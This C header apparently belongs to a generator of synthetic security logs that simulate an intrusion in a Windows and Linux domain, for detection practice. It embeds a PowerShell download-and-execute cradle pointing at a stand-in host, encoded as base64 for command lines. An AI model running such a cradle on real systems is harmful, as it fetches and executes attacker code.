/* intrusion_rows.h - hosts, accounts and the rows that events leave.
 *
 * Called by: intrusion.c alone, which includes it once. */
#ifndef INTRUSION_ROWS_H
#define INTRUSION_ROWS_H

#include <stdlib.h>

#include "intrusion_out.h"

enum { DESK = 1, DCH = 2, FSH = 4, SQLH = 8, WEBH = 16, LNX = 32,
       SRV = DCH | FSH | SQLH | WEBH, WIN = SRV | DESK, NCLASSES = 6 };
enum account { SYS, NET, USER, SVC, ADMIN, ROOT };
enum life { GOES, LIVES, BOOT };
enum { MIN_HOSTS = 8, MAX_HOSTS = 10000, MAX_DAYS = 366, MAX_STEPS = 2048 };
enum { TEXT = 4096, WHEEL = 4096, BUSY = 48, PIDS = 32768 };
/* Servers come first; V is the desk where it begins. */
enum place { DC, FS, SQLSRV, MAIL, LINUX, NPLACES, V, OUTSIDE,
             C2_ADDRESS, DROP_ADDRESS };

#define FIRST_DAY "2024-05-13"    /* a Monday */
#define DOMAIN "LAKESIDE"
#define ADMIN_NAME "adm_krause"
#define SPRAY_ADDRESS "203.0.113.77"
#define C2_NAME "static.cloudmetrics.example"
#define AT(h, m, s) ((h) * 3600 + (m) * 60 + (s))

enum role_id {
#define ROLE(id, ...) R_##id,
#include "intrusion_noise.def"
#undef ROLE
    NROLES
};
/* Processes of the story, numbered after the roles. */
enum label {
    L_ANY = NROLES, L_WORD, L_PS, L_IMPLANT, L_CMD, L_DUMPCMD, L_DUMP, L_SVC1,
    L_CMD1, L_SVC2, L_CMD2, L_RAR, L_UP, L_SSH, L_SHELL, NPROCESSES
};

struct role {
    int weight;
    unsigned hosts;
    enum account account;
    enum role_id parent;
    enum life life;
    struct text image, command;
};
static const struct role roles[] = {
#define ROLE(id, w, hosts, account, parent, life, image, command)            \
    { w, hosts, account, R_##parent, life, T(image), T(command) },
#include "intrusion_noise.def"
#undef ROLE
};

struct flow {
    int weight;
    unsigned hosts;
    enum role_id role;
    enum place place;
    int port;
    uint32_t sent, received;
};
static const struct flow flows[] = {
#define FLOW(w, hosts, role, place, port, sent, received)                    \
    { w, hosts, R_##role, place, port, sent, received },
#include "intrusion_noise.def"
#undef FLOW
};

static const struct {
    int weight;
    struct text name;
} names[] = {
#define NAME(w, name) { w, T(name) },
#include "intrusion_noise.def"
#undef NAME
};
enum { NFLOWS = sizeof flows / sizeof *flows,
       NNAMES = sizeof names / sizeof *names };

enum kind { LOGON, PROCESS, AUDITD, DNS, NETWORK, FILES, ADMIN_EVENTS, NKINDS };
static const struct {
    const char *name, *columns;
} kinds[NKINDS] = {
    { "logons", "TimeGenerated,EventID,Computer,Account,Domain,LogonType,"
                "LogonId,IpAddress,Status,SubStatus,Process,Package" },
    { "processes", "TimeGenerated,EventID,Computer,SubjectUserName,"
                   "SubjectDomainName,SubjectLogonId,NewProcessId,"
                   "NewProcessName,ProcessId,ParentProcessName,CommandLine,"
                   "TokenElevationType" },
    { "auditd", "TimeGenerated,EventType,Computer,pid,ppid,exe,cmdline,acct,"
                "uid,ses" },
    { "dns", "TimeGenerated,Computer,ClientIP,QueryName,QueryType,"
             "ResponseCode,Answer" },
    { "network", "TimeGenerated,Computer,User,ProcessName,ProcessId,Protocol,"
                 "SrcIp,SrcPort,DstIp,DstPort,BytesSent,BytesReceived,"
                 "DurationMs" },
    { "files", "TimeGenerated,Computer,ActionType,FolderPath,FileName,FileSize,"
               "SHA256,Account,ProcessName,ProcessId" },
    { "admin", "TimeGenerated,EventID,Channel,Computer,Account,Name,Detail" },
};

struct host {
    struct text name;
    char name_bytes[16], address[16];
    unsigned type;                  /* one of DESK … LNX */
    size_t index, user;
    int boot_day;
    uint32_t logon, next_pid, nbusy;
    uint32_t pid[NROLES];           /* 0: not running */
    uint32_t busy[BUSY];            /* of short-lived processes */
    uint64_t used[PIDS / 64];
};

struct gen {
    uint64_t random, now, rows, events, seed;
    size_t nhosts, nservers, nusers, stride;
    int days, attack_day;
    bool csv, single;
    const char *dir;
    struct host *hosts;
    struct text *users;
    char (*dates)[16];
    struct out outs[NKINDS], *o;
    uint16_t role_wheel[NCLASSES][WHEEL], flow_wheel[NCLASSES][WHEEL];
    uint16_t name_wheel[WHEEL];
    char addresses[NNAMES][16];      /* of names */
    uint32_t label_pid[NPROCESSES];
    struct text label_image[NPROCESSES];
    char text[TEXT], image[TEXT], parent_image[TEXT];
};

/* ---- chance ----------------------------------------------------------- */

/* SplitMix64 (Steele, Lea, Flood 2014). */
static uint64_t chance(struct gen *g)
{
    uint64_t z = g->random += 0x9e3779b97f4a7c15u;
    z = (z ^ (z >> 30)) * 0xbf58476d1ce4e5b9u;
    z = (z ^ (z >> 27)) * 0x94d049bb133111ebu;
    return z ^ (z >> 31);
}

static uint32_t pick(struct gen *g, uint32_t n)
{
    return (uint32_t)(((chance(g) >> 32) * n) >> 32);
}

static bool one_in(struct gen *g, uint32_t n)
{
    return pick(g, n) == 0;
}

/* One row of a kind; its time is its own, later than all before it. */
static struct out *begin(struct gen *g, enum kind k)
{
    struct out *o = &g->outs[g->single ? 0 : k];
    g->now += 1 + pick(g, 9000);
    g->rows++;
    out_begin(o, g->single ? kinds[k].name : NULL,
              g->dates[g->now / SECOND / DAY_SECONDS], g->now);
    return o;
}

/* ---- texts ------------------------------------------------------------ */

static struct text account(struct gen *g, const struct host *h,
                           enum account who, char *tmp)
{
    static const struct text services[NCLASSES] = {
        T("svc_inventory"), T("svc_dc"), T("svc_backup"), T("svc_sql"),
        T("svc_web"), T("svc_app") };
    if (who == USER)
        return g->users[h->type == LNX ? pick(g, 4) % g->nusers : h->user];
    if (who == ADMIN)
        return TX(ADMIN_NAME);
    if (who == ROOT)
        return TX("root");
    if (who == SVC)
        return services[__builtin_ctz(h->type)];
    memcpy(tmp, h->name.p, h->name.n);
    tmp[h->name.n] = '$';
    return (struct text){ tmp, h->name.n + 1 };
}

static struct text base64_utf16(char *to, struct text s)
{
    static const char set[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrst"
                              "uvwxyz0123456789+/";
    size_t n = 0, bytes = s.n * 2;
    for (size_t i = 0; i < bytes; i += 3) {
        uint32_t v = 0;
        for (size_t k = 0; k < 3; k++)
            v = v << 8 | (i + k < bytes && (i + k) % 2 == 0
                              ? (uint8_t)s.p[(i + k) / 2] : 0);
        for (size_t k = 0; k < 4; k++)
            to[n++] = i + k > bytes ? '=' : set[v >> (18 - 6 * k) & 63];
    }
    return (struct text){ to, n };
}

static struct text sign_text(struct gen *g, const struct host *h,
                             struct text user, char sign, char *tmp)
{
    static const struct text files[] = {
        T("budget_2024"), T("meeting_notes"), T("offer_draft"), T("plan_q3"),
        T("travel_report"), T("contract_v2"), T("inventory"), T("minutes") };
    static const struct text cradle = T(
        "$c=New-Object Net.WebClient;IEX $c.DownloadString('http://" C2_NAME
        "/lk/a')");
    switch (sign) {
    case 'n': return digits(tmp, 64, 1 + pick(g, 9999));
    case 'h': return hex(tmp, 64, 0x10000000 + pick(g, 0xefffffff));
    case 'u': return user;
    case 'f': return files[pick(g, sizeof files / sizeof *files)];
    case 's': return g->hosts[pick(g, (uint32_t)g->nservers)].name;
    case 'd': return names[g->name_wheel[pick(g, WHEEL)]].name;
    case 'l': return digits(tmp, 64, h->pid[R_LSASS]);
    case 'e': return base64_utf16(tmp, cradle);
    default: return TX("%");
    }
}

/* Fills the signs of a text in; see intrusion_noise.def. */
static struct text expand(struct gen *g, const struct host *h,
                          enum account who, struct text from, char *to)
{
    char tmp[512], name[24];
    size_t n = 0, i = 0;
    struct text user = { NULL, 0 };
    while (i < from.n) {
        const char *sign = memchr(from.p + i, '%', from.n - i);
        size_t len = sign ? (size_t)(sign - from.p) - i : from.n - i;
        memcpy(to + n, from.p + i, len);
        n += len;
        i += len + 2;
        if (!sign)
            break;
        if (sign[1] == 'u' && !user.n)
            user = account(g, h, who, name);
        struct text s = sign_text(g, h, user, sign[1], tmp);
        memcpy(to + n, s.p, s.n);
        n += s.n;
    }
    return (struct text){ to, n };
}

/* ---- rows ------------------------------------------------------------- */

static struct text address_of(const struct host *h)
{
    return (struct text){ h->address, strlen(h->address) };
}

struct process {
    struct host *h;
    enum account who;
    struct text image, parent_image, command;
    uint32_t pid, ppid;
};

static uint64_t logon_id(const struct host *h, enum account who)
{
    static const uint32_t fixed[] = { 0x3e7, 0x3e4, 0, 0x5a2c1, 0x8f31d7, 0 };
    return who == USER ? h->logon : fixed[who];
}

static void row_auditd(struct gen *g, const struct process *p)
{
    char tmp[24];
    struct out *o = begin(g, AUDITD);
    put(o, KEY("EventType"), TX("SYSCALL_EXECVE"));
    put(o, KEY("Computer"), p->h->name);
    put_number(o, KEY("pid"), p->pid);
    put_number(o, KEY("ppid"), p->ppid);
    put(o, KEY("exe"), p->image);
    put(o, KEY("cmdline"), p->command);
    put(o, KEY("acct"), account(g, p->h, p->who, tmp));
    put_number(o, KEY("uid"), p->who == ROOT ? 0 : 1000);
    put_number(o, KEY("ses"), p->who == ROOT ? 1 : 7);
    out_end(o);
}

static void row_process(struct gen *g, const struct process *p)
{
    char tmp[24];
    static const struct text elevation[] = {
        T("%%1936"), T("%%1936"), T("%%1938"), T("%%1936"), T("%%1937"),
        T("") };
    if (p->h->type == LNX) {
        row_auditd(g, p);
        return;
    }
    struct out *o = begin(g, PROCESS);
    put_number(o, KEY("EventID"), 4688);
    put(o, KEY("Computer"), p->h->name);
    put(o, KEY("SubjectUserName"), account(g, p->h, p->who, tmp));
    put(o, KEY("SubjectDomainName"), TX(DOMAIN));
    put_hex(o, KEY("SubjectLogonId"), logon_id(p->h, p->who));
    put_hex(o, KEY("NewProcessId"), p->pid);
    put(o, KEY("NewProcessName"), p->image);
    put_hex(o, KEY("ProcessId"), p->ppid);
    put(o, KEY("ParentProcessName"), p->parent_image);
    put(o, KEY("CommandLine"), p->command);
    put(o, KEY("TokenElevationType"), elevation[p->who]);
    out_end(o);
}

struct logon {
    const struct host *h;
    int event, type;
    struct text account, address;
    bool wrong;                     /* the password was */
};

static void row_logon(struct gen *g, const struct logon *l)
{
    struct out *o = begin(g, LOGON);
    put_number(o, KEY("EventID"), (uint64_t)l->event);
    put(o, KEY("Computer"), l->h->name);
    put(o, KEY("Account"), l->account);
    put(o, KEY("Domain"), TX(DOMAIN));
    put_number(o, KEY("LogonType"), (uint64_t)l->type);
    put_hex(o, KEY("LogonId"), l->wrong ? 0 : 0x10000 + pick(g, 0xfffffff));
    put(o, KEY("IpAddress"), l->address);
    put(o, KEY("Status"), l->wrong ? TX("0xc000006d") : TX("0x0"));
    put(o, KEY("SubStatus"), l->wrong ? TX("0xc000006a") : TX(""));
    put(o, KEY("Process"), l->type == 3 ? TX("NtLmSsp") : TX("User32"));
    put(o, KEY("Package"), l->type == 3 ? TX("NTLM") : TX("Negotiate"));
    out_end(o);
}

static void row_dns(struct gen *g, const struct host *h, struct text name,
                    struct text answer)
{
    struct out *o = begin(g, DNS);
    put(o, KEY("Computer"), h->name);
    put(o, KEY("ClientIP"), address_of(h));
    put(o, KEY("QueryName"), name);
    put(o, KEY("QueryType"), TX("A"));
    put(o, KEY("ResponseCode"), answer.n ? TX("NOERROR") : TX("NXDOMAIN"));
    put(o, KEY("Answer"), answer);
    out_end(o);
}

struct contact {
    const struct process *from;
    struct text address;
    int port;
    uint64_t sent, received;
};

static void row_network(struct gen *g, const struct contact *c)
{
    char tmp[24];
    const struct process *p = c->from;
    struct out *o = begin(g, NETWORK);
    put(o, KEY("Computer"), p->h->name);
    put(o, KEY("User"), account(g, p->h, p->who, tmp));
    put(o, KEY("ProcessName"), p->image);
    put_number(o, KEY("ProcessId"), p->pid);
    put(o, KEY("Protocol"), TX("tcp"));
    put(o, KEY("SrcIp"), address_of(p->h));
    put_number(o, KEY("SrcPort"), 49152 + pick(g, 16000));
    put(o, KEY("DstIp"), c->address);
    put_number(o, KEY("DstPort"), (uint64_t)c->port);
    put_number(o, KEY("BytesSent"), c->sent);
    put_number(o, KEY("BytesReceived"), c->received);
    put_number(o, KEY("DurationMs"), 20 + pick(g, 1200));
    out_end(o);
}

static void row_file(struct gen *g, const struct process *p, struct text folder,
                     struct text file, uint64_t bytes)
{
    char tmp[24], hash[64];
    struct out *o = begin(g, FILES);
    for (int i = 0; i < 4; i++) {
        char part[17];
        struct text s = hex(part, 16, chance(g) | 1ull << 63);
        memcpy(hash + 16 * i, s.p, 16);
    }
    put(o, KEY("Computer"), p->h->name);
    put(o, KEY("ActionType"), TX("FileCreated"));
    put(o, KEY("FolderPath"), folder);
    put(o, KEY("FileName"), file);
    put_number(o, KEY("FileSize"), bytes);
    put(o, KEY("SHA256"), (struct text){ hash, 64 });
    put(o, KEY("Account"), account(g, p->h, p->who, tmp));
    put(o, KEY("ProcessName"), p->image);
    put_number(o, KEY("ProcessId"), p->pid);
    out_end(o);
}

/* Services, tasks, accounts, cleared logs: `what` is a name and a detail. */
static void row_admin(struct gen *g, const struct host *h, int event,
                      struct text account_name, const struct text what[2])
{
    bool system = event == 7045 || event == 104;
    struct out *o = begin(g, ADMIN_EVENTS);
    put_number(o, KEY("EventID"), (uint64_t)event);
    put(o, KEY("Channel"), system ? TX("System") : TX("Security"));
    put(o, KEY("Computer"), h->name);
    put(o, KEY("Account"), account_name);
    put(o, KEY("Name"), what[0]);
    put(o, KEY("Detail"), what[1]);
    out_end(o);
}

#endif
